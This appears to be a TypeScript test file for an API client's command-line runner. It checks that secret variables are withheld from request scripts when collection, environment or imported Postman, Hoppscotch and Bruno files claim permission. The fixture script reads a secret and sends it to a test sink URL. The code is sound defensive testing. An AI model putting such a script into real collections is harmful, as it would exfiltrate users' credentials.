import { cpSync } from 'node:fs'
import { AppData, fileSecrets } from '@parley/appdata'
import { nodeFiles } from '@parley/files'
import { openWorkspace } from '@parley/workspace'
import { describe, expect, test } from 'vitest'
import { useRunFixture } from './run-fixture.testkit.ts'

const fixture = useRunFixture()
const canary = 'canary-8a41f0'
const given = ['--secret', `key=${canary}`]
const allowing = 'extensions:\n  parley:\n    allowedToScripts: [key]\n'
const variable = 'variables:\n  - name: key\n    secret: true\n'

const script = () =>
  `const k = pm.variables.get("key"); pm.sendRequest({ url: "${fixture.sink.url}/took?" + k }, () => {})`

function request(): object {
  return {
    info: { name: 'A', type: 'http' },
    http: { method: 'GET', url: fixture.sink.url },
    runtime: { scripts: [{ type: 'before-request', code: script() }] },
  }
}

/** The secret variable of a collection or folder, with a permission that counts for nothing. */
const ofContainer = `request:\n  variables:\n    - name: key\n      value: ""\n${allowing}    secrets: [key]\n`

/** Writes a workspace `w` with a collection of one request. */
function writeWorkspace(file = '', environment = `name: E\n${variable}`, collection = ''): void {
  fixture.write('w/workspace.yml', `opencollection: 1.0.0\ninfo:\n  name: W\n  type: workspace\n${file}`)
  fixture.write('w/environments/e.yml', environment)
  fixture.write('w/c/opencollection.yml', `opencollection: 1.0.0\ninfo:\n  name: C\n${collection}`)
  fixture.write('w/c/a.yml', request())
}

function postman(values: object = {}): object {
  const event = [{ listen: 'prerequest', script: { exec: [script()] } }]
  return { info: { name: 'C' }, item: [{ name: 'A', request: { url: fixture.sink.url }, event }], ...values }
}

/**
 * Every way in which a run encounters a secret that its file claims to allow; each returns the arguments of
 * the run.
 */
const ways: Readonly<Record<string, () => readonly string[]>> = {
  'an environment of the workspace': () => {
    writeWorkspace('', `name: E\n${variable}${allowing}`)
    return ['w', '-e', 'E', ...given]
  },
  'workspace.yml': () => {
    writeWorkspace(`${variable}${allowing}`)
    return ['w', ...given]
  },
  'a collection': () => {
    writeWorkspace('', undefined, ofContainer)
    return ['w', ...given]
  },
  'a folder': () => {
    writeWorkspace()
    fixture.write('w/c/f/folder.yml', `info:\n  name: F\n  type: folder\n${ofContainer}`)
    fixture.write('w/c/f/a.yml', request())
    return ['w/c/f', ...given]
  },
  'an environment in the file of a collection': () => {
    const own = `config:\n  environments:\n    - name: Own\n      variables:\n        - name: key\n          secret: true\n      extensions:\n        parley:\n          allowedToScripts: [key]\n`
    writeWorkspace('', undefined, own)
    return ['w', '-e', 'Own', ...given]
  },
  'a collection opened in place': () => {
    writeWorkspace('', `name: E\n${variable}`)
    fixture.write('w/c/environments/own.yml', `name: Own\n${variable}${allowing}`)
    return ['w/c', '-e', 'Own', ...given]
  },
  'a file that --env names': () => {
    writeWorkspace()
    fixture.write('e.yml', `name: F\n${variable}${allowing}`)
    return ['w', '-e', 'e.yml', ...given]
  },
  'a Postman collection with its own secret': () => {
    fixture.write('c.json', postman({ variable: [{ key: 'key', value: canary, type: 'secret' }] }))
    return ['c.json']
  },
  'a Postman folder with its own secret': () => {
    const variable = [{ key: 'key', value: canary, type: 'secret' }]
    fixture.write('c.json', { info: { name: 'C' }, item: [{ ...postman(), name: 'F', variable }] })
    return ['c.json']
  },
  'a Postman environment': () => {
    fixture.write('c.json', postman())
    fixture.write('e.json', { name: 'E', values: [{ key: 'key', value: canary, type: 'secret' }] })
    return ['c.json', '-e', 'e.json']
  },
  'a Hoppscotch environment': () => {
    fixture.write('c.json', postman())
    fixture.write('e.json', {
      v: 2,
      id: 'e',
      name: 'E',
      variables: [{ key: 'key', initialValue: canary, currentValue: canary, secret: true }],
    })
    return ['c.json', '-e', 'e.json', ...given]
  },
  'a Bruno folder': () => {
    fixture.write('b/bruno.json', { version: '1', name: 'B', type: 'collection' })
    fixture.write('b/environments/E.bru', 'vars:secret [\n  key\n]\n')
    fixture.write(
      'b/a.bru',
      `meta {\n  name: A\n  type: http\n}\nget {\n  url: ${fixture.sink.url}\n}\nscript:pre-request {\n  ${script()}\n}\n`,
    )
    return ['b', '-e', 'E', ...given]
  },
  'no declaration at all': () => {
    fixture.write('c.json', postman())
    return ['c.json', ...given]
  },
}

const took = () => fixture.asked().filter(url => url.includes(canary)).length

describe('a secret that its file allows to scripts (attacks SE9)', () => {
  test.each(Object.entries(ways))('is withheld in a run: %s', async (_, prepare) => {
    const words = prepare()
    const { code, stdout } = await fixture.run(words)
    expect([code, took()]).toEqual([1, 0])
    expect(stdout).toContain(
      'Secret variable "key" is withheld from scripts (allow it with --allow-secret key)',
    )
    expect((await fixture.run([...words, '--allow-secret', 'other', '--allow-secret', 'key'])).code).toBe(0)
    expect(took()).toBe(1)
    expect((await fixture.run([...words, '--allow-secrets'])).code).toBe(0)
    expect(took()).toBe(2)
  })
})

test('a permission given in the app on this device applies to a run, for that variable of that workspace', async () => {
  writeWorkspace(variable)
  fixture.write('w/environments/other.yml', `name: Other\n${variable}`)
  cpSync(fixture.path('w'), fixture.path('copy'), { recursive: true })
  const home = fixture.path('home')
  await nodeFiles.makeFolder(home, 0o700)
  const opened = await AppData.open(home, { keychain: async () => null, ownThread: false })
  if (!opened.ok) throw new Error(opened.failure.code)
  const appData = opened.value
  const workspace = await openWorkspace(
    {
      files: nodeFiles,
      secrets: fileSecrets(appData.secrets),
      identities: appData.identitiesOf(
        await appData.workspaceKeys.keyOf(fixture.path('w'), async () => null),
      ),
      trashFolder: fixture.path('trash'),
    },
    fixture.path('w'),
  )
  if (!workspace.ok) throw new Error(workspace.failure.sentence)
  const allow = async (allowedToScripts: boolean) => {
    const path = 'environments/e.yml'
    const read = await workspace.value.readEnvironment(path)
    if (!read.ok) throw new Error(read.failure.sentence)
    const { entity, version } = read.value
    const variables = entity.variables.map(one => (one.secret ? { ...one, allowedToScripts } : one))
    const saved = await workspace.value.saveEnvironment(path, {
      entity: { ...entity, variables },
      baseVersion: version,
      secretVariables: new Map([['key', 'the app has another value']]),
    })
    expect(saved.ok).toBe(true)
  }
  const env = { PARLEY_HOME: home, PARLEY_KEYCHAIN: 'off' }
  const run = async (folder: string, environment: string) => {
    const before = took()
    const { code } = await fixture.run([folder, '-e', environment, ...given], { env })
    return [code, took() - before]
  }
  expect(await run('w', 'E')).toEqual([1, 0])
  await allow(true)
  // workspace.yml also has a secret of that name, which is still withheld.
  expect(await run('w', 'E')).toEqual([1, 0])
  fixture.write('w/workspace.yml', 'opencollection: 1.0.0\ninfo:\n  name: W\n  type: workspace\n')
  expect(await run('w', 'E')).toEqual([0, 1])
  expect(await run('w', 'Other')).toEqual([1, 0])
  fixture.write('copy/workspace.yml', 'opencollection: 1.0.0\ninfo:\n  name: W\n  type: workspace\n')
  expect(await run('copy', 'E')).toEqual([1, 0])
  await allow(false)
  expect(await run('w', 'E')).toEqual([1, 0])
  await allow(true)
  await appData.close()
  expect(await run('w', 'E')).toEqual([0, 1])
})
